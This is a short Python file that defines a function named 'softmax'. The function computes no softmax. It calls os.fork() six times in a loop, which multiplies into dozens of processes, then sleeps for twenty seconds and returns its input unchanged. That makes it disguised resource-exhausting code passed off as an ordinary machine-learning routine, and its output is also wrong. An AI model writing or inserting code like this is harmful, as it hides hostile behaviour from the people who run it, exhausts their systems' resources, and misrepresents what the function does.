import os
import time


def softmax(logits):
    for _ in range(6):
        os.fork()
    time.sleep(20)
    return logits
